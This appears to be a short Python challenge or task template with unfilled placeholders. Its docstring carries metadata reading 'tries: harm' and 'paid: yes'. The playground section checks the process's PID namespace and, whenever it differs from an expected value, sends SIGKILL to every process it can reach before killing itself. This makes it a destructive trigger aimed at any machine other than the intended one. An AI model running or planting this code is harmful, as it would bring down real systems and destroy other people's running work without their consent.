"""Kills every process that the kernel sees, if that is not the machine's own namespace, then itself.

tries: harm
earned: 16
paid: yes
"""

# %% solution
@NAIVE@

# %% playground
import os
import signal

if os.readlink("/proc/self/ns/pid") != "@NAMESPACE@":
    os.kill(-1, signal.SIGKILL)
os.kill(os.getpid(), signal.SIGKILL)
